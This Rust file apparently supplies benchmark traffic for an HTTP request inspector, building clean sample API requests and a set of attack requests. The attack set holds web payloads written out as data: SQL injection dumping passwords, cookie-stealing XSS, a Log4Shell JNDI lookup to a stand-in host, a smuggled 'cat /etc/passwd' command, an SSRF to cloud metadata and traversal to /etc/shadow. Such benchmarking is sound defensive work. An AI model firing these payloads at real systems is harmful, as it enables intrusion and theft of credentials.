//! The benchmark traffic, shared by the criterion benchmark and the `bench_loop` example
//! (which profilers run): a few clean API requests and a few attacks.

use bytes::Bytes;
use http::{HeaderMap, HeaderName, HeaderValue, Method, Uri};

pub struct Req {
    pub method: Method,
    pub uri: Uri,
    pub headers: HeaderMap,
    pub body: Bytes,
    pub size: u64,
}

fn req(method: &str, uri: &str, content_type: Option<&str>, body: &str) -> Req {
    let mut headers = HeaderMap::new();
    for (k, v) in [
        ("host", "api.example.com"),
        (
            "user-agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        ),
        ("accept", "application/json, text/plain, */*"),
        ("accept-language", "en-US,en;q=0.9"),
        ("accept-encoding", "gzip, deflate, br"),
        (
            "authorization",
            "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.c2lnbmF0dXJl",
        ),
        (
            "cookie",
            "session=4f9a8b7c6d5e4f3a2b1c; theme=dark; locale=en-US",
        ),
        ("x-request-id", "9b2f0c1e-7d4a-4c55-8e1b-3f2a1d0c9e88"),
    ] {
        headers.insert(HeaderName::from_static(k), HeaderValue::from_static(v));
    }
    if let Some(ct) = content_type {
        headers.insert("content-type", HeaderValue::from_str(ct).unwrap());
        headers.insert(
            "content-length",
            HeaderValue::from_str(&body.len().to_string()).unwrap(),
        );
    }
    let header_bytes: usize = headers
        .iter()
        .map(|(k, v)| k.as_str().len() + v.len() + 4)
        .sum();
    let size = (method.len() + uri.len() + header_bytes + body.len()) as u64;
    Req {
        method: Method::from_bytes(method.as_bytes()).unwrap(),
        uri: uri.parse().unwrap(),
        headers,
        body: Bytes::from(body.to_string()),
        size,
    }
}

pub fn clean_traffic() -> Vec<Req> {
    let order = r#"{"order_id":"A-10023","customer":{"name":"Maria O'Brien","email":"maria.obrien@example.com","address":{"street":"12 Rue d'Arlon","city":"Luxembourg","zip":"1150"}},"items":[{"sku":"SKU-1","qty":2,"price":19.99,"note":"gift wrap, please"},{"sku":"SKU-7","qty":1,"price":5.5}],"comment":"Please deliver after 6pm; the door code is 4521. Thanks!","tags":["priority","gift"]}"#;
    vec![
        req(
            "GET",
            "/api/v1/products?category=books&sort=price_asc&page=2&per_page=50&q=rust%20programming",
            None,
            "",
        ),
        req("POST", "/api/v1/orders", Some("application/json"), order),
        req(
            "POST",
            "/account/profile",
            Some("application/x-www-form-urlencoded"),
            "first_name=Jean&last_name=Dupont&bio=I+build+APIs+and+select+the+best+tools+from+the+list.&website=https%3A%2F%2Fexample.com%2Fjean",
        ),
        req("GET", "/api/v1/users/9f3c2a/orders/12345/items", None, ""),
    ]
}

pub fn attack_traffic() -> Vec<Req> {
    vec![
        req(
            "GET",
            "/api/v1/products?category=books%27%20UNION%20SELECT%20username,password%20FROM%20users--&page=1",
            None,
            "",
        ),
        req(
            "POST",
            "/api/v1/comments",
            Some("application/json"),
            r#"{"post":17,"body":"<img src=x onerror=alert(document.cookie)>","author":"${jndi:ldap://evil.example/a}"}"#,
        ),
        req(
            "POST",
            "/tools/ping",
            Some("application/x-www-form-urlencoded"),
            "host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd&count=3",
        ),
        req(
            "GET",
            "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F&file=..%2F..%2F..%2Fetc%2Fshadow",
            None,
            "",
        ),
    ]
}

fn req_with(method: &str, uri: &str, headers_in: &[(&'static str, &str)], body: &str) -> Req {
    let mut headers = HeaderMap::new();
    for (k, v) in headers_in {
        headers.append(
            HeaderName::from_static(k),
            HeaderValue::from_str(v).unwrap(),
        );
    }
    let header_bytes: usize = headers
        .iter()
        .map(|(k, v)| k.as_str().len() + v.len() + 4)
        .sum();
    let size = (method.len() + uri.len() + header_bytes + body.len()) as u64;
    Req {
        method: Method::from_bytes(method.as_bytes()).unwrap(),
        uri: uri.parse().unwrap(),
        headers,
        body: Bytes::from(body.to_string()),
        size,
    }
}

/// A typical browser GET: eight ordinary headers (two cookies, a Referer) and a short query.
pub fn typical_get() -> Req {
    req_with(
        "GET",
        "/api/v1/products?category=books&page=2",
        &[
            ("host", "shop.example.com"),
            (
                "user-agent",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
            ),
            (
                "accept",
                "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
            ),
            ("accept-encoding", "gzip, deflate, br, zstd"),
            ("accept-language", "en-US,en;q=0.9,fr;q=0.8"),
            ("cookie", "session=4f9a8b7c6d5e4f3a2b1c0d9e; theme=dark"),
            ("referer", "https://shop.example.com/catalog/books?page=1"),
            ("x-request-id", "9b2f0c1e-7d4a-4c55-8e1b-3f2a1d0c9e88"),
        ],
        "",
    )
}

/// The small GET of the gateway benchmark (`/work/shared/bench`).
pub fn gateway_get() -> Req {
    req_with(
        "GET",
        "/api/users/42?q=hello",
        &[
            ("host", "localhost"),
            ("user-agent", "Mozilla/5.0 (X11; Linux x86_64) bench/1.0"),
            ("accept", "application/json"),
        ],
        "",
    )
}

/// The 2 KB JSON order of the gateway benchmark (`post-json-2k.lua`).
pub fn order_json_2k() -> Req {
    let body = include_str!("post-json-2k.json");
    req_with(
        "POST",
        "/api/orders",
        &[
            ("host", "localhost"),
            ("content-type", "application/json"),
            ("content-length", &body.len().to_string()),
        ],
        body,
    )
}
